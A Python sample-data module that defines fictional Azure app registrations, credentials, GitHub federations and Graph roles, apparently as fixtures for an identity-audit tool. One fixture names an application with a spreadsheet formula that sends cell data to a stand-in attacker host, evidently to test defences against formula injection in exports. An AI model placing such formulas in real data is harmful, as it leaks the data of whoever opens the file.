"""The applications of the story: registrations, service principals, credentials, Graph roles."""

from __future__ import annotations

from sample_data import aws_ids, ids
from sample_data.roster import (
    ADA,
    ANTON,
    DEVELOPERS,
    ELIF,
    FAR_FUTURE,
    GRAPH_CLIENT,
    HEAD_OF_DATA,
    HEAD_OF_FINANCE,
    HEAD_OF_HR,
    HEAD_OF_PLATFORM,
    HELENE,
    KENJI,
    MARCUS,
    MICROSOFT,
    OWNER_POOL,
    PLATFORM_ADMINS,
    SECURITY_READERS,
    TOMAS,
    Application,
    Credential,
    Federation,
    Foreign,
    Person,
    SingleSignOn,
)

GITHUB = "https://token.actions.githubusercontent.com"
_CENTER = f"https://{aws_ids.REGION}.signin.aws.amazon.com/platform/saml"
GRAPH_ROLES = {
    "RoleManagement.ReadWrite.Directory": "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8",
    "Application.ReadWrite.All": "1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9",
    "GroupMember.ReadWrite.All": "dbaae8cf-10b5-4b86-a4a1-f871c94c6695",
    "Directory.Read.All": "7ab1d382-f21e-4acd-a863-ba3e13f7da61",
    "AuditLog.Read.All": "b0afded3-3588-46d8-8b3d-9842eff778da",
    "User.Read.All": "df021288-bdef-4463-88db-98f22de89214",
    "Mail.Send": "b633e1c5-b582-4048-a93e-9f11b44c7e96",
}


def _secret(
    key: str, *, start: str = "2025-09-01", end: str = "2027-09-01", canary: bool = False
) -> Credential:
    return Credential(key=key, name=key, start=_time(start), end=_time(end), canary=canary)


def _time(text: str) -> str:
    return text if "T" in text else f"{text}T00:00:00Z"


def _owned(key: str, name: str, owner: Person, graph_roles: tuple[str, ...] = ()) -> Application:
    owners = (owner.id,)
    return Application(
        key=key, name=name, owners=owners, principal_owners=owners, graph_roles=graph_roles
    )


RELEASE = Application(
    key="release-automation",
    name="Release Automation",
    owners=(ADA.id, ANTON.id),
    principal_owners=(ADA.id,),
    credentials=(
        _secret("release-2025", canary=True),
        _secret("ci-rotation", start="2026-10-30T15:31:20Z", end="2028-10-30T15:31:20Z"),
        Credential(
            key="release-principal",
            name="pipeline",
            start="2025-11-03T00:00:00Z",
            end="2027-11-03T00:00:00Z",
            on_principal=True,
        ),
    ),
)
DEPLOYER = Application(
    key="platform-deployer",
    name="Platform Deployer",
    owners=(TOMAS.id,),
    credentials=(
        _secret("deploy-2025"),
        _secret("deploy-2023", start="2023-06-30", end="2024-06-30"),
        _secret("deploy-2021", start="2021-06-30", end="2023-06-30"),
    ),
    federations=(
        Federation(
            name="platform-deploy",
            issuer=GITHUB,
            subject="repo:northlight/platform-deploy:environment:production",
        ),
    ),
)
SIGNING = Application(
    key="release-signing",
    name="Release Signing",
    owners=(HEAD_OF_PLATFORM.id,),
    principal_owners=(HEAD_OF_PLATFORM.id,),
    credentials=(
        _secret("signing-2026", start="2026-02-01", end="2027-02-01"),
        _secret("hotfix", start="2026-10-30T16:05:44Z", end="2028-10-30T16:05:44Z"),
    ),
)
TELEMETRY = Application(
    key="telemetry-ingest",
    name="Telemetry Ingest",
    credentials=(_secret("telemetry", end=FAR_FUTURE),),
)
LEGACY_IMPORT = Application(
    key="legacy-import",
    name="Legacy Import",
    owners=(HELENE.id,),
    principal_owners=(HELENE.id,),
    credentials=(_secret("legacy-2022", start="2022-01-10", end="2023-01-10"),),
)
BILLING = Application(
    key="billing-export",
    name="Billing Export",
    owners=(OWNER_POOL[3].id,),
    principal_owners=(OWNER_POOL[3].id,),
    credentials=(_secret("billing"), _secret("billing-2024", start="2024-09-01", end="2026-09-01")),
)
SHOP_ADMIN = Application(
    key="shop-admin",
    name="Shop Admin",
    owners=(OWNER_POOL[4].id,),
    principal_owners=(OWNER_POOL[4].id,),
    credentials=(_secret("shop-api", canary=True),),
    app_roles=("Shop.Manage", "Shop.Read"),
)
AUDIT_READER = _owned(
    "audit-reader", "Audit Reader", MARCUS, graph_roles=("AuditLog.Read.All", "Directory.Read.All")
)
IDENTITY_LIFECYCLE = _owned(
    "identity-lifecycle",
    "Identity Lifecycle",
    MARCUS,
    graph_roles=("RoleManagement.ReadWrite.Directory",),
)
APP_INVENTORY = _owned(
    "app-inventory", "App Inventory", OWNER_POOL[9], graph_roles=("Application.ReadWrite.All",)
)
GROUP_SYNC = _owned(
    "group-sync", "Group Sync", OWNER_POOL[9], graph_roles=("GroupMember.ReadWrite.All",)
)
HR_CONNECTOR = _owned("hr-connector", "HR Connector", HEAD_OF_HR, graph_roles=("User.Read.All",))
MAIL_NOTIFIER = _owned("mail-notifier", "Mail Notifier", OWNER_POOL[5], graph_roles=("Mail.Send",))
SECRET_ROTATOR = _owned("secret-rotator", "Secret Rotator", OWNER_POOL[9])
TERRAFORM = Application(
    key="terraform",
    name="Landing Zone Terraform",
    owners=(HEAD_OF_PLATFORM.id,),
    principal_owners=(HEAD_OF_PLATFORM.id,),
    federations=(
        Federation(
            name="main",
            issuer=GITHUB,
            subject="repo:northlight-instruments/landing-zone:ref:refs/heads/main",
        ),
    ),
)
FIRMWARE = Application(
    key="firmware-pipeline",
    name="Firmware Pipeline",
    owners=(KENJI.id,),
    principal_owners=(KENJI.id,),
    federations=(
        Federation(
            name="production",
            issuer=GITHUB,
            subject="repo:northlight-instruments/firmware:environment:production",
        ),
        Federation(
            name="pull-requests",
            issuer=GITHUB,
            subject="repo:northlight-instruments/firmware:pull_request",
        ),
    ),
)
PARTNER_PORTAL = Application(
    key="partner-portal",
    name="Partner Portal",
    owners=(ELIF.id,),
    principal_owners=(ELIF.id,),
    credentials=(_secret("partner", end=FAR_FUTURE),),
)
NIGHTLY = Application(
    key="nightly-reports",
    name="Nightly Reports",
    owners=(TERRAFORM.principal,),
    principal_owners=(TERRAFORM.principal,),
)
LEDGER_A = Application(
    key="ledger-a",
    name="Ledger Sync A",
    principal_owners=(ids.principal_id("ledger-b"),),
)
LEDGER_B = Application(
    key="ledger-b",
    name="Ledger Sync B",
    principal_owners=(ids.principal_id("ledger-a"),),
)
WEATHER = Application(
    key="weather-feed",
    name="Weather Feed",
    owners=(HELENE.id, ELIF.id),
    principal_owners=(HELENE.id, ELIF.id),
)
IDENTITY_CENTER = Application(
    key="aws-identity-center",
    name="AWS IAM Identity Center",
    owners=(HEAD_OF_PLATFORM.id,),
    principal_owners=(HEAD_OF_PLATFORM.id,),
    sign_on=SingleSignOn(
        identifier=f"{_CENTER}/{aws_ids.IDENTITY_STORE}",
        reply_url=f"{_CENTER}/acs/{aws_ids.ACS}",
        assigned=(
            *((it.id, it.name, "Group") for it in (PLATFORM_ADMINS, DEVELOPERS, SECURITY_READERS)),
            *((it.id, it.name, "User") for it in (HEAD_OF_DATA, HEAD_OF_FINANCE)),
        ),
    ),
)
HOSTILE_APP = _owned("hostile", '=WEBSERVICE("http://evil.example/"&A1)', OWNER_POOL[20])
DISABLED_APP = Application(
    key="plotter",
    name="Plotter Bridge",
    owners=(OWNER_POOL[21].id,),
    principal_owners=(OWNER_POOL[21].id,),
    enabled=False,
)

STORY = (
    RELEASE, DEPLOYER, SIGNING, TELEMETRY, LEGACY_IMPORT, BILLING, SHOP_ADMIN, AUDIT_READER,
    IDENTITY_LIFECYCLE, APP_INVENTORY, GROUP_SYNC, HR_CONNECTOR, MAIL_NOTIFIER, SECRET_ROTATOR,
    TERRAFORM, FIRMWARE, PARTNER_PORTAL, NIGHTLY, LEDGER_A, LEDGER_B, WEATHER, IDENTITY_CENTER,
    HOSTILE_APP, DISABLED_APP,
)  # fmt: skip

# No directory owner; a register row decides about some of them (see `register.py`).
UNOWNED_NAMES = (
    "Badge Printing", "Canteen Menu", "Label Designer", "Quality Dashboard", "Supplier Onboarding",
    "Freight Rates", "Asset Tracker", "Torque Planner",
)  # fmt: skip
# As above, and the export has no owner record for the service principal.
UNRECORDED_NAMES = ("Old Intranet Search", "Parcel Tracker")
# An owned registration whose service principal has no owner record.
HALF_RECORDED_NAMES = ("Optics Simulator", "Visitor Kiosk", "Spare Parts Catalogue")
OWNED_NAMES = (
    "Timesheet Bridge", "Warehouse Scanner", "Calibration Certificates", "Service Desk Portal",
    "Travel Booking", "Training Hub", "Field Service Mobile", "Price List Publisher",
    "Document Archive", "Press Room", "Contract Signing", "Fleet Booking", "Energy Monitor",
    "Test Bench Gateway", "Returns Handling", "Customer Survey", "Translation Desk",
    "Meeting Rooms", "Bill of Materials", "Export Control Check", "Safety Reporting",
    "Newsletter", "Trade Fair Planner", "Lab Inventory", "Recruiting Board",
)  # fmt: skip


def _key(name: str) -> str:
    return name.lower().replace(" ", "-")


def _ordinary() -> tuple[Application, ...]:
    """Return the applications without a part in the story, owners dealt out in turn."""
    made = [Application(key=_key(name), name=name) for name in UNOWNED_NAMES]
    made += [
        Application(key=_key(name), name=name, principal_owners=None) for name in UNRECORDED_NAMES
    ]
    for at, name in enumerate(OWNED_NAMES + HALF_RECORDED_NAMES):
        owner = (OWNER_POOL[at % len(OWNER_POOL)].id,)
        recorded = name not in HALF_RECORDED_NAMES
        made.append(
            Application(
                key=_key(name),
                name=name,
                owners=owner,
                principal_owners=owner if recorded else None,
                credentials=_ordinary_credentials(at, _key(name)),
            )
        )
    return tuple(made)


def _ordinary_credentials(at: int, key: str) -> tuple[Credential, ...]:
    match at % 5:
        case 0:
            return (_secret(f"{key}-a"), _secret(f"{key}-b", end="2025-03-31"))
        case 1:
            return (_secret(f"{key}-a", end=FAR_FUTURE),)
        case 2:
            return (
                Credential(
                    key=f"{key}-cert",
                    name=f"CN={key}",
                    start="2025-05-01T00:00:00Z",
                    end="2027-05-01T00:00:00Z",
                    certificate=True,
                ),
            )
        case _:
            return ()


ORDINARY = _ordinary()
APPLICATIONS = STORY + ORDINARY
BY_NAME = {application.name: application for application in APPLICATIONS}

GRAPH = Foreign(
    key="microsoft-graph",
    name="Microsoft Graph",
    client=GRAPH_CLIENT,
    home=MICROSOFT,
    app_roles=tuple(GRAPH_ROLES.items()),
)
FOREIGN = (
    GRAPH,
    Foreign(
        key="exchange-online",
        name="Office 365 Exchange Online",
        client="00000002-0000-0ff1-ce00-000000000000",
        home=MICROSOFT,
    ),
    Foreign(
        key="azure-management",
        name="Windows Azure Service Management API",
        client="797f4846-ba00-4fd7-ba43-dac1f8f63013",
        home=MICROSOFT,
    ),
    Foreign(
        key="brightdesk-connector",
        name="Brightdesk Connector",
        client=ids.client_id("brightdesk-connector"),
        home=ids.guid("tenant/brightdesk"),
    ),
)
